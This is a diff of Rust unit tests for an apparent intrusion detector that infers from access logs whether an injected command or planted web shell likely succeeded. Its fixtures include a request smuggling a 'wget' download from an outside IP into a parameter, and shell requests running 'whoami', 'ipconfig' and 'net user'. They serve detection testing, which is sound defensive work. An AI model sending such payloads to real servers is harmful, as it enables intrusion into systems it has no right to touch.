@@ -122,6 +122,7 @@ const INJECTED: &str = "POST /report.do?to=a;wget%20http://198.51.100.9/a%20-O%2
 const LEFT: &str = "POST /office/qwe123.jsp";
 
 /// A site with visitors, a command injected into it, and what follows: who, pause in seconds, path and bytes.
+/// What is said of web shells.
 fn after_command(status: u16, left: &[(&'static str, u32, &'static str, u32)]) -> Vec<Outcome> {
     let visitors: Vec<String> = (1..200).map(|n| format!("36.1.{n}.7")).collect();
     let visit = |(second, source): (u32, &String)| {
@@ -137,31 +138,61 @@ fn after_command(status: u16, left: &[(&'static str, u32, &'static str, u32)]) -
         second += pause;
         asks.push((second, source, path, 200, *bytes));
     }
-    let found = told_of(&asks, &[Scenario::WEB_COMMAND]);
+    let found = told_of(&asks, &[Scenario::WEB_SHELL]);
     found.into_iter().map(|(_, outcome)| outcome).collect()
 }
 
+fn commands(
+    source: &'static str,
+    pause: u32,
+    path: &'static str,
+) -> [(&'static str, u32, &'static str, u32); 6] {
+    [112, 980, 4_312, 112, 240, 16_000].map(|bytes| (source, pause, path, bytes))
+}
+
 #[test]
-fn a_program_that_only_the_attacker_uses_shows_success() {
-    let commands = |source, pause, path| {
-        [112, 980, 4_312, 112, 240, 16_000].map(|bytes| (source, pause, path, bytes))
-    };
+fn a_program_that_only_an_attacker_uses_is_told() {
     let used = commands(INTRUDER, 7, LEFT);
-    assert_eq!(after_command(200, &used), [Outcome::LikelySucceeded]);
-    assert_eq!(after_command(500, &used), [Outcome::LikelySucceeded]);
-    // It was refused.
-    assert_eq!(after_command(404, &used), [Outcome::Attempted]);
+    for status in [200, 500] {
+        assert_eq!(after_command(status, &used), [Outcome::LikelySucceeded], "{status}");
+    }
+    // The attack was refused.
+    assert_eq!(after_command(404, &used), []);
     // Too few, too fast, by somebody else, of a page that was there before, or always the same answer.
-    let open = [Outcome::NotDeterminable];
-    assert_eq!(after_command(200, &used[..4]), open);
-    assert_eq!(after_command(200, &commands(INTRUDER, 0, LEFT)), open);
-    assert_eq!(after_command(200, &commands("36.1.2.8", 7, LEFT)), open);
-    assert_eq!(after_command(200, &commands(INTRUDER, 7, "POST /office/main.do")), open);
-    assert_eq!(
-        after_command(200, &used.map(|(source, pause, path, _)| (source, pause, path, 88))),
-        open
-    );
+    assert_eq!(after_command(200, &used[..4]), []);
+    assert_eq!(after_command(200, &commands(INTRUDER, 0, LEFT)), []);
+    assert_eq!(after_command(200, &commands("36.1.2.8", 7, LEFT)), []);
+    assert_eq!(after_command(200, &commands(INTRUDER, 7, "POST /office/main.do")), []);
+    let same = used.map(|(source, pause, path, _)| (source, pause, path, 88));
+    assert_eq!(after_command(200, &same), []);
     // Others ask for it as well.
     let others = ["36.1.2.1", "36.1.2.2", "36.1.2.3"].map(|source| (source, 1, LEFT, 500));
-    assert_eq!(after_command(200, &[&used[..], &others].concat()), open);
+    assert_eq!(after_command(200, &[&used[..], &others].concat()), []);
+}
+
+#[test]
+fn a_file_that_answers_what_is_sent_to_it_is_told() {
+    let used = commands(INTRUDER, 7, "POST /favicondemo.ico");
+    assert_eq!(after_command(200, &used), [Outcome::LikelySucceeded]);
+    assert_eq!(after_command(404, &used), [Outcome::NotDeterminable]);
+    // It is read by visitors, too, and a counter gives the same picture to everything.
+    let read = (1..9).map(|_| ("36.1.2.1", 1, "GET /favicondemo.ico", 500));
+    let read: Vec<_> = read.collect();
+    assert_eq!(after_command(200, &[&used[..], &read].concat()), [Outcome::LikelySucceeded]);
+    let same = used.map(|(source, pause, path, _)| (source, pause, path, 43));
+    assert_eq!(after_command(200, &same), []);
+}
+
+#[test]
+fn commands_that_a_new_script_answers_are_told() {
+    let asks = [
+        (INTRUDER, 7, "GET /office/s.jsp?cmd=whoami", 30),
+        (INTRUDER, 7, "GET /office/s.jsp?cmd=ipconfig", 1_300),
+        (INTRUDER, 7, "GET /office/s.jsp?cmd=net+user", 600),
+    ];
+    assert!(after_command(200, &asks).contains(&Outcome::LikelySucceeded));
+    // Two are no use, and one page for everything shows none.
+    assert!(!after_command(200, &asks[..2]).contains(&Outcome::LikelySucceeded));
+    let same = asks.map(|(source, pause, path, _)| (source, pause, path, 88));
+    assert!(!after_command(200, &same).contains(&Outcome::LikelySucceeded));
 }
